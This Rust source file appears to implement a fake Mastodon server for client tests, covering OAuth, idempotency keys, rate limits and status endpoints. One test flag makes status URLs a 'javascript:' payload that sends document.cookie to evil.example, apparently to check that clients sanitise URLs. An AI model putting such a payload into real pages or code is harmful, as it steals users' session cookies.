//! A Mastodon instance: app registration, OAuth without expiry or refresh, revoke,
//! `Idempotency-Key` replayed for an hour per account, ISO 8601 `X-RateLimit-Reset`.

use std::collections::HashMap;
use std::io;
use std::sync::{Arc, Mutex};

use actix_web::{web, HttpRequest, HttpResponse};
use chrono::{DateTime, Duration, Utc};
use serde_json::json;

use crate::common::{
    bearer, fields, lock, random_token, redirect_with_code, s256, serve, CodeGrant, Fake, FakePost,
    FakeUser, Shared, TokenCheck,
};

pub const MAX_CHARS: usize = 500;

type S = web::Data<Arc<Shared>>;

/// (account, Idempotency-Key) → (status id, when first used).
type Keys = HashMap<(String, String), (String, DateTime<Utc>)>;

/// Registered apps (client id → secret, redirect) and replayable idempotency keys.
#[derive(Default)]
struct Instance {
    apps: Mutex<HashMap<String, (String, String)>>,
    keys: Mutex<Keys>,
}

type I = web::Data<Instance>;

pub fn start() -> io::Result<Fake> {
    start_on(0)
}

pub fn start_on(port: u16) -> io::Result<Fake> {
    let user = FakeUser {
        id: "109876543210".into(),
        handle: "ada".into(),
        password: String::new(),
    };
    serve(
        port,
        Shared::new(user, rate_limited, |_| random_token("m-at-")),
        Instance::default(),
        routes,
    )
}

/// 429 with the reset as an ISO 8601 timestamp, five minutes on.
fn rate_limited() -> HttpResponse {
    let reset =
        (Utc::now() + Duration::minutes(5)).to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    HttpResponse::TooManyRequests()
        .insert_header(("X-RateLimit-Limit", "300"))
        .insert_header(("X-RateLimit-Remaining", "0"))
        .insert_header(("X-RateLimit-Reset", reset))
        .json(json!({"error": "Too many requests"}))
}

fn routes(cfg: &mut web::ServiceConfig) {
    cfg.route("/api/v1/apps", web::post().to(register))
        .route("/oauth/authorize", web::get().to(authorize))
        .route("/oauth/token", web::post().to(token))
        .route("/oauth/revoke", web::post().to(revoke))
        .route("/api/v1/accounts/verify_credentials", web::get().to(verify))
        .route("/api/v1/accounts/{id}/statuses", web::get().to(statuses))
        .route("/api/v1/statuses", web::post().to(create))
        .route("/api/v1/statuses/{id}", web::get().to(status))
        .route("/api/v1/statuses/{id}", web::delete().to(delete));
}

fn error(status: u16, message: &str) -> HttpResponse {
    let code = actix_web::http::StatusCode::from_u16(status)
        .unwrap_or(actix_web::http::StatusCode::BAD_REQUEST);
    HttpResponse::build(code).json(json!({"error": message}))
}

/// JSON or form bodies, as Mastodon accepts both.
fn body_fields(req: &HttpRequest, body: &[u8]) -> HashMap<String, String> {
    let json = req
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .is_some_and(|c| c.starts_with("application/json"));
    if !json {
        return fields(body);
    }
    let value: serde_json::Value = serde_json::from_slice(body).unwrap_or_default();
    value
        .as_object()
        .map(|o| {
            o.iter()
                .filter_map(|(k, v)| Some((k.clone(), v.as_str()?.to_string())))
                .collect()
        })
        .unwrap_or_default()
}

async fn register(s: S, i: I, req: HttpRequest, body: web::Bytes) -> HttpResponse {
    if let Some(r) = s.gate("apps").await {
        return r;
    }
    let f = body_fields(&req, &body);
    let (Some(name), Some(redirect)) = (f.get("client_name"), f.get("redirect_uris")) else {
        return error(422, "Validation failed: Application name can't be blank, Redirect URI must be an absolute URI");
    };
    let id = random_token("mc-");
    let secret = random_token("ms-");
    lock(&i.apps).insert(id.clone(), (secret.clone(), redirect.clone()));
    HttpResponse::Ok().json(json!({
        "id": "1", "name": name, "website": f.get("website"), "scopes": f.get("scopes"),
        "redirect_uri": redirect, "redirect_uris": [redirect],
        "client_id": id, "client_secret": secret, "vapid_key": "fake",
    }))
}

async fn authorize(s: S, i: I, q: web::Query<HashMap<String, String>>) -> HttpResponse {
    if let Some(r) = s.gate("authorize").await {
        return r;
    }
    let get = |k: &str| q.get(k).cloned().unwrap_or_default();
    let known = lock(&i.apps)
        .get(&get("client_id"))
        .is_some_and(|(_, redirect)| *redirect == get("redirect_uri"));
    if get("response_type") != "code" || !known {
        return HttpResponse::BadRequest().body("The redirect uri included is not valid.");
    }
    let challenge = (!get("code_challenge").is_empty()).then(|| get("code_challenge"));
    let grant = CodeGrant {
        client_id: get("client_id"),
        redirect_uri: get("redirect_uri"),
        challenge,
        scope: get("scope"),
    };
    redirect_with_code(&s, grant, &get("state"))
}

fn oauth_error(status: u16, error: &str, description: &str) -> HttpResponse {
    let code = actix_web::http::StatusCode::from_u16(status)
        .unwrap_or(actix_web::http::StatusCode::BAD_REQUEST);
    HttpResponse::build(code).json(json!({"error": error, "error_description": description}))
}

fn client_ok(i: &Instance, id: &str, secret: &str) -> bool {
    lock(&i.apps).get(id).is_some_and(|(s, _)| s == secret)
}

async fn token(s: S, i: I, req: HttpRequest, body: web::Bytes) -> HttpResponse {
    if let Some(r) = s.gate("token").await {
        return r;
    }
    let f = body_fields(&req, &body);
    let get = |k: &str| f.get(k).cloned().unwrap_or_default();
    if !client_ok(&i, &get("client_id"), &get("client_secret")) {
        return oauth_error(401, "invalid_client", "Client authentication failed due to unknown client, no client authentication included, or unsupported authentication method.");
    }
    if get("grant_type") != "authorization_code" {
        return oauth_error(
            400,
            "unsupported_grant_type",
            "The authorization grant type is not supported by the authorization server.",
        );
    }
    let grant = lock(&s.codes).remove(&get("code"));
    let valid = grant.as_ref().is_some_and(|g| {
        g.client_id == get("client_id")
            && g.redirect_uri == get("redirect_uri")
            && g.challenge
                .as_ref()
                .is_none_or(|c| *c == s256(&get("code_verifier")))
    });
    let Some(grant) = grant.filter(|_| valid) else {
        return oauth_error(400, "invalid_grant", "The provided authorization grant is invalid, expired, revoked, does not match the redirection URI used in the authorization request, or was issued to another client.");
    };
    let (access, _) = s.grant(&s.user.id);
    HttpResponse::Ok().json(json!({
        "access_token": access, "token_type": "Bearer", "scope": grant.scope,
        "created_at": Utc::now().timestamp(),
    }))
}

async fn revoke(s: S, i: I, req: HttpRequest, body: web::Bytes) -> HttpResponse {
    if let Some(r) = s.gate("revoke").await {
        return r;
    }
    let f = body_fields(&req, &body);
    let get = |k: &str| f.get(k).cloned().unwrap_or_default();
    if !client_ok(&i, &get("client_id"), &get("client_secret")) {
        return oauth_error(
            403,
            "unauthorized_client",
            "You are not authorized to revoke this token",
        );
    }
    lock(&s.tokens).revoke(&get("token"));
    s.bump("revoked");
    HttpResponse::Ok().json(json!({}))
}

fn authed(s: &Shared, req: &HttpRequest) -> Result<String, HttpResponse> {
    match s.authed(req) {
        TokenCheck::Valid(user) => Ok(user),
        _ => Err(error(401, "The access token is invalid")),
    }
}

async fn verify(s: S, req: HttpRequest) -> HttpResponse {
    if let Some(r) = s.gate("me").await {
        return r;
    }
    match authed(&s, &req) {
        Ok(_) => HttpResponse::Ok().json(json!({
            "id": s.user.id, "username": s.user.handle, "acct": s.user.handle,
            "display_name": "Ada Lovelace", "url": format!("https://fake.example/@{}", s.user.handle),
        })),
        Err(r) => r,
    }
}

fn html_escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

fn status_json(s: &Shared, req: &HttpRequest, post: &FakePost) -> serde_json::Value {
    let host = req.connection_info().host().to_string();
    let url = if s.flag("javascript_urls") {
        "javascript:fetch('//evil.example/'+document.cookie)//".to_string()
    } else if s.flag("foreign_urls") {
        format!("https://evil.example/@ada/{}", post.id)
    } else {
        format!("http://{host}/@ada/{}", post.id)
    };
    json!({
        "id": post.id, "created_at": Utc::now().to_rfc3339(), "visibility": "public",
        "language": post.raw["language"], "uri": format!("http://{host}/users/ada/statuses/{}", post.id),
        "url": url,
        "content": format!("<p>{}</p>", html_escape(&post.text)),
        "replies_count": 2, "reblogs_count": 5, "favourites_count": 13,
        "account": {"id": post.author, "username": "ada", "acct": "ada"},
    })
}

/// The post, answered late when a `Late` fault is queued for `create`.
async fn create(s: S, i: I, req: HttpRequest, body: web::Bytes) -> HttpResponse {
    s.answer_late("create", create_post(s.clone(), i, req, body))
        .await
}

async fn create_post(s: S, i: I, req: HttpRequest, body: web::Bytes) -> HttpResponse {
    if let Some(r) = s.gate("create").await {
        return r;
    }
    let user = match authed(&s, &req) {
        Ok(user) => user,
        Err(r) => return r,
    };
    let key = req
        .headers()
        .get("idempotency-key")
        .and_then(|v| v.to_str().ok())
        .map(str::to_string);
    let now = Utc::now();
    // A repeated key within the hour answers the first status (Mastodon keeps them an hour).
    if let Some(key) = &key {
        let keys = lock(&i.keys);
        if let Some((id, at)) = keys.get(&(user.clone(), key.clone())) {
            if now - *at < Duration::hours(1) {
                if let Some(post) = lock(&s.posts).iter().find(|p| p.id == *id) {
                    return HttpResponse::Ok().json(status_json(&s, &req, post));
                }
            }
        }
    }
    let f = body_fields(&req, &body);
    let text = f.get("status").cloned().unwrap_or_default();
    if text.trim().is_empty() {
        return error(422, "Validation failed: Text can't be blank");
    }
    if text.chars().count() > MAX_CHARS {
        return error(
            422,
            &format!("Validation failed: Text character limit of {MAX_CHARS} exceeded"),
        );
    }
    let mut posts = lock(&s.posts);
    let post = FakePost {
        id: format!("1130{:014}", posts.len() + 1),
        author: user.clone(),
        text,
        raw: serde_json::to_value(&f).unwrap_or_default(),
        deleted: false,
    };
    let answer = status_json(&s, &req, &post);
    if let Some(key) = key {
        lock(&i.keys).insert((user, key), (post.id.clone(), now));
    }
    posts.push(post);
    HttpResponse::Ok().json(answer)
}

async fn statuses(s: S, req: HttpRequest, id: web::Path<String>) -> HttpResponse {
    if let Some(r) = s.gate("find").await {
        return r;
    }
    if let Err(r) = authed(&s, &req) {
        return r;
    }
    let list: Vec<_> = lock(&s.posts)
        .iter()
        .rev()
        .filter(|p| !p.deleted && p.author == *id)
        .take(40)
        .map(|p| status_json(&s, &req, p))
        .collect();
    HttpResponse::Ok().json(list)
}

async fn status(s: S, req: HttpRequest, id: web::Path<String>) -> HttpResponse {
    if let Some(r) = s.gate("metrics").await {
        return r;
    }
    if bearer(&req).is_some() {
        if let Err(r) = authed(&s, &req) {
            return r;
        }
    }
    match lock(&s.posts).iter().find(|p| p.id == *id && !p.deleted) {
        Some(post) => HttpResponse::Ok().json(status_json(&s, &req, post)),
        None => error(404, "Record not found"),
    }
}

async fn delete(s: S, req: HttpRequest, id: web::Path<String>) -> HttpResponse {
    if let Some(r) = s.gate("delete").await {
        return r;
    }
    let user = match authed(&s, &req) {
        Ok(user) => user,
        Err(r) => return r,
    };
    let mut posts = lock(&s.posts);
    match posts
        .iter_mut()
        .find(|p| p.id == *id && !p.deleted && p.author == user)
    {
        Some(post) => {
            post.deleted = true;
            let mut answer = status_json(&s, &req, post);
            answer["text"] = json!(post.text);
            HttpResponse::Ok().json(answer)
        }
        None => error(404, "Record not found"),
    }
}
